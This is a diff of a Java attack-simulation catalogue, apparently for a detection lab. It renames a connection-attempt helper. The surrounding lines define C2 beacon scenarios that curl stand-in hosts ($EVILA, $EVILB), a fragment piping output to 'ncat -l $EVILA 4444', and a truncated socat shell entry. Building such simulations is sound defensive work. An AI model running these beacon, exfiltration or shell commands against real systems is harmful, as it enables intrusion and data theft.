@@ -2,9 +2,9 @@ package dev.weir.standalone.lab;
 
 import static dev.weir.standalone.lab.AttackScripts.SINK;
 import static dev.weir.standalone.lab.AttackScripts.WORDS;
+import static dev.weir.standalone.lab.AttackScripts.attempts;
 import static dev.weir.standalone.lab.AttackScripts.beacon;
 import static dev.weir.standalone.lab.AttackScripts.httpEnd;
-import static dev.weir.standalone.lab.AttackScripts.knocks;
 import static dev.weir.standalone.lab.AttackScripts.sshEnd;
 import static dev.weir.standalone.lab.AttackScripts.tlsEnd;
 import static dev.weir.standalone.lab.LabHost.API;
@@ -222,8 +222,8 @@ final class LabAttacks extends AttackCatalogue {
                                 + " | ncat -l $EVILA 4444"));
         add("c2-beacon-even", "curl", CI, 60, beacon("https://$EVILA:443/", 80, 1_000, 0), tlsEnd(EVILA, 443));
         add("c2-beacon-jitter", "curl", SENSOR, 60, beacon("https://$EVILB:8443/", 80, 800, 50), tlsEnd(EVILB, 8443));
-        add("c2-dead-refused", "ncat", ORDERS, 20, knocks("$EVILA", 1_177, 110, 500, 5));
-        add("c2-dead-silent", "ncat", API, 30, knocks("10.60.8.77", 8_081, 70, 600, 20));
+        add("c2-dead-refused", "ncat", ORDERS, 20, attempts("$EVILA", 1_177, 110, 500, 5));
+        add("c2-dead-silent", "ncat", API, 30, attempts("10.60.8.77", 8_081, 70, 600, 20));
         add("c2-inside-even", "curl", WEBB, 60, beacon("http://$NEW:9001/", 80, 700, 10), httpEnd(NEW, 9_001));
         add(
                 "c2-socat-shell",
